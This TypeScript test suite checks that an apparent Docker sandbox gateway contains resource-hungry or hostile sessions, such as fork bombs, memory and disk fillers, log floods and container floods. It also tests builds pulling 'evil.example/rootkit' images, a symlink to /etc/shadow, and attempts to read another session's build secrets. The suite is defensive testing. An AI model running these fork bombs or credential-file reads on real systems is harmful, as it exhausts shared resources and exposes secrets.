/** Sessions that take all they can get. */
import assert from "node:assert/strict";
import { runLine } from "../../../src/headless/run-lines.ts";
import { connect, openLab } from "../lab.ts";
import { ask, pause, ran, refusedBy, started, type Trial } from "./trial.ts";

/** Milliseconds that somebody else's command takes meanwhile, at most. */
const neighbourly = 10_000;

/** Somebody else still gets an answer. */
async function others(work: Promise<unknown>, gateway: Parameters<Trial["run"]>[0]): Promise<void> {
  const neighbour = await connect(gateway);
  await pause(500);
  const started_ = Date.now();
  const { code, out } = await ran(neighbour, "echo fine");
  assert.equal(code, 0);
  assert.match(out, /fine/);
  assert.ok(Date.now() - started_ < neighbourly, `a neighbour waited ${Date.now() - started_} ms`);
  await work;
  neighbour.close();
}

export const hunger: readonly Trial[] = [
  {
    name: "a fork bomb stays in its container",
    async run(gateway) {
      const connection = await connect(gateway);
      const id = await started(connection, ["sh", "-c", "b() { b | b & }; b; sleep 20"]);
      await others(pause(1500), gateway);
      const { pids_stats } = (await ask(connection, "GET", `/containers/${id}/stats?stream=0&one-shot=1`)).json;
      assert.ok((pids_stats.current ?? 0) <= 256, JSON.stringify(pids_stats));
      assert.equal((await ask(connection, "DELETE", `/containers/${id}?force=1`)).status, 204);
      connection.close();
    },
  },
  {
    name: "a memory hog is ended by the kernel",
    async run(gateway) {
      const connection = await connect(gateway);
      const { inspect, code } = await ran(connection, "head -c 700m /dev/zero | tail -c 699m | wc -c");
      assert.ok(inspect.State.OOMKilled || code !== 0, JSON.stringify(inspect.State));
      const tmpfs = await ran(connection, "dd if=/dev/zero of=/t/x bs=1M count=900", { HostConfig: { Tmpfs: { "/t": "size=2g" } } });
      assert.notEqual(tmpfs.code, 0);
      connection.close();
    },
  },
  {
    name: "a disk filler is stopped, and told why",
    async run(gateway) {
      const connection = await connect(gateway);
      const stop = new AbortController();
      const notices = await connection.request({ method: "GET", target: "/drydock/notices", signal: stop.signal });
      const script = "i=0; while true; do i=$((i+1)); head -c 50m /dev/zero > /fill$i || exit 9; done";
      const id = await started(connection, ["sh", "-c", script]);
      const ended = ask(connection, "POST", `/containers/${id}/wait`);
      await others(ended, gateway);
      let told = "";
      for await (const piece of notices.body) {
        told += new TextDecoder().decode(piece);
        if (told.includes("\n")) break;
      }
      assert.match(told, /has written/);
      const big = await ran(connection, `head -c ${2 * 1024}m /dev/zero > /one-file`);
      assert.notEqual(big.code, 0);
      stop.abort();
      connection.close();
    },
  },
  {
    name: "a log flood is kept short",
    async run(gateway) {
      const connection = await connect(gateway);
      const id = await started(connection, ["sh", "-c", "yes 0123456789012345678901234567890123456789 & sleep 3; kill $!"]);
      await others(ask(connection, "POST", `/containers/${id}/wait`), gateway);
      const logs = await ask(connection, "GET", `/containers/${id}/logs?stdout=1`);
      assert.ok(logs.text.length < 4 * 1024 ** 2, `${logs.text.length} bytes of log`);
      connection.close();
    },
  },
  {
    name: "a thousand containers",
    async run(gateway) {
      const connection = await connect(gateway);
      const all = await Promise.all(
        Array.from({ length: 100 }, () => ask(connection, "POST", "/containers/create", { Image: "alpine:3.20", Cmd: ["true"] })),
      );
      const made = all.filter(({ status }) => status === 201).length;
      assert.equal(made, 32);
      for (let count = 100; count < 1000; count++) {
        const answer = await ask(connection, "POST", "/containers/create", { Image: "alpine:3.20", Cmd: ["true"] });
        refusedBy("limits", answer);
      }
      for (const [target, body] of [
        ["/networks/create", { Name: "n" }],
        ["/volumes/create", { Name: "vol" }],
      ] as const) {
        let refusals = 0;
        for (let count = 0; count < 40; count++) {
          const { status } = await ask(connection, "POST", target, { ...body, Name: `${body.Name}${count}` });
          if (status === 403) refusals++;
        }
        assert.ok(refusals >= 8, target);
      }
      connection.close();
    },
  },
  {
    name: "builds have limits and take nothing that is not on the list",
    async run(gateway) {
      const { session, connection } = await openLab(gateway);
      const build = async (dockerfile: string, flags = "") =>
        runLine(session, `cat > Dockerfile <<'EOF'\n${dockerfile}\nEOF\ndocker build ${flags} -t t .`);
      for (const dockerfile of [
        "FROM evil.example/rootkit:1",
        "FROM alpine:3.20\nCOPY --from=evil.example/rootkit:1 / /x",
        "FROM alpine:3.20\nRUN --mount=type=bind,from=evil.example/x,target=/x true",
        "# syntax=evil.example/frontend:1\nFROM alpine:3.20",
        "FROM alpine:3.20\nADD http://127.0.0.1:1/x /x",
        "FROM alpine:3.20\nADD https://github.com/docker/buildx.git /x",
        "FROM alpine:3.20\nRUN --network=host id",
        "FROM alpine:3.20\nRUN --security=insecure id",
      ]) {
        const { exitCode, stderr } = await build(dockerfile);
        assert.notEqual(exitCode, 0, dockerfile);
        assert.match(stderr, /denied|not allowed|not on the list|policy|entitlement|unknown flag|DEPRECATED|syntax/i, dockerfile + stderr);
      }
      for (const flags of [
        "--network host",
        "--allow network.host --network host",
        "--cgroup-parent /x",
        "--ulimit nproc=9",
        "--ssh default",
      ])
        assert.notEqual((await build("FROM alpine:3.20\nRUN true", flags)).exitCode, 0, flags);
      const forged = await build('FROM alpine:3.20\nLABEL dev.drydock.session="dd-00000000"\nRUN true');
      assert.equal(forged.exitCode, 0, forged.stderr);
      const [image] = (await ask(connection, "GET", "/images/t/json")).json ? [1] : [];
      assert.equal(image, 1, "the image is still the session's");
      // A link for a Dockerfile is read in the lab, not on the machine.
      const link = await runLine(session, "rm Dockerfile; ln -s /etc/shadow Dockerfile; docker build -t t .");
      assert.doesNotMatch(link.stdout + link.stderr, /root:/);
      await runLine(session, "rm Dockerfile");
      const bomb = build("FROM alpine:3.20\nRUN timeout 4 sh -c 'b() { b | b & }; b; sleep 3'; true");
      await others(bomb, gateway);
      connection.close();
    },
  },
  {
    name: "secrets and caches of another session's build are not to be had",
    async run(gateway) {
      const [one, two] = [await openLab(gateway), await openLab(gateway)];
      const dockerfile = `FROM alpine:3.20\nRUN --mount=type=secret,id=k,required=false --mount=type=cache,target=/c cp /run/secrets/k /k 2>/dev/null; cp /c/* / 2>/dev/null; cp /k /c/kept 2>/dev/null; true`;
      const line = `cat > Dockerfile <<'EOF'\n${dockerfile}\nEOF\n`;
      const first = await runLine(
        one.session,
        `${line}echo hush > k; docker build -q --secret id=k,src=k -t t . && docker run --rm t cat /k`,
      );
      assert.match(first.stdout, /hush/, first.stderr);
      const second = await runLine(two.session, `${line}docker build -q -t t . && docker run --rm t sh -c 'cat /k /kept; true'`);
      assert.doesNotMatch(second.stdout, /hush/);
      one.connection.close();
      two.connection.close();
    },
  },
];
